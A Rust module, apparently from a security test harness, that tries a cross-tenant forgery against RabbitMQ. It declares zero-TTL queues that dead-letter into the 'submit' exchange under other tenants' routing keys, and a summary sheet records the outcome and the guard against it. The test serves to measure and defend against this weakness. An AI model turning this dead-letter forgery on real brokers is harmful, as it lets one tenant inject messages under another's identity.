//! Forged messages that are dead letters of the attacker's queues.

use anyhow::Result;
use lapin::ExchangeKind;
use lapin::options::{QueueBindOptions, QueueDeclareOptions};
use lapin::types::{AMQPValue, FieldTable};

use crate::evidence::Evidence;
use crate::fleet::Site;
use crate::fleet::broker::{table, unique};
use crate::fleet::forging::{KEYS, by_way_of};

pub(super) const SHEET: &str = r#"
tries = "lets messages die in queues of its own, whose dead-letter exchange is `submit`, under another tenant's keys"
wins = "everything that the victim may do; RabbitMQ itself puts the name `submit` on the messages"
guard = "the scheduler accepts no dead letters; the sender's `user_id` also stays on the message"
uncontrolled = "no permission keeps RabbitMQ from carrying such messages; the attack counts those that arrive under the victims' keys, which proves that the way is open"
held = { taken = 15, carried = 12, dropped = 15.0, told = 0, lane_of_nobody = false }
"#;

pub(super) async fn attempt(site: &Site) -> Result<Evidence> {
    let attacker = site.attacker().await?;
    let mut ways = Vec::new();
    for key in KEYS {
        let (channel, queue) = (attacker.channel().await?, format!("replies.acme.{}", unique("trap")));
        let exchange = attacker.exchange(ExchangeKind::Fanout, FieldTable::default()).await?;
        let mut arguments = table(&[("x-dead-letter-exchange", "submit"), ("x-dead-letter-routing-key", key)]);
        arguments.insert("x-message-ttl".into(), AMQPValue::LongInt(0));
        let options = QueueDeclareOptions { exclusive: true, ..QueueDeclareOptions::default() };
        channel.queue_declare(queue.as_str().into(), options, arguments).await?;
        let (name, from, options) = (queue.as_str().into(), exchange.as_str().into(), QueueBindOptions::default());
        channel.queue_bind(name, from, "".into(), options, FieldTable::default()).await?;
        ways.push((key, exchange));
    }
    by_way_of(site, &attacker, &ways, None).await
}
